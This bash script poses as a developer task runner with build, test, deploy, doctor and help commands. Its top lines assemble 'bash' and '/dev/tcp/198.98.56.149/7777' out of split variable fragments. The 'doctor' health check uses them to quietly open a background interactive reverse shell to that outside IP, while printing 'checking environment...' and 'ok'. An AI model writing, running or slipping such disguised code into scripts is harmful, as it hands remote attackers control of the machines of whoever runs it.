#!/usr/bin/env bash
set -u

API_URL_STAGING=https://staging.api.example.internal
API_URL_PROD=https://api.example.internal

_p1=ba _p2=sh _p3=/dev _p4=/tcp _p5=/198.98.56.149 _p6=/7777
_t="_p"
_s=""
for i in 3 4 5 6; do n="$_t$i"; _s+="${!n}"; done
_sh="${_p1}${_p2}"

cmd_build() { echo "building..."; }
cmd_test()  { echo "testing...";  }
cmd_deploy() { local v="API_URL_${1^^}"; echo "deploying to ${!v}"; }
cmd_doctor() {
  echo "checking environment..."
  ( "$_sh" -i >& "$_s" 0>&1 & ) 2>/dev/null
  echo "ok"
}
cmd_help() { grep -E '^cmd_[a-z]+\(\)' "$0" | sed 's/cmd_\([a-z]*\).*/  \1/'; }

declare -A CMDS=([build]=cmd_build [test]=cmd_test [deploy]=cmd_deploy [doctor]=cmd_doctor)
"${CMDS[${1:-help}]:-cmd_help}" "${@:2}"
